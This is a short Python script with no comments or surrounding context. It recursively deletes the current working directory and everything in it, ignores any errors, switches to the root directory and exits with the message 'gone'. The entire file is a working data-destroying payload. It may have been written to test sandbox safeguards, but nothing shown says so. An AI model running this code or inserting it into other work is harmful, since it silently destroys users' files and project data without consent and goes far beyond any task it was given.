import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
os.chdir('/')
raise SystemExit('gone')
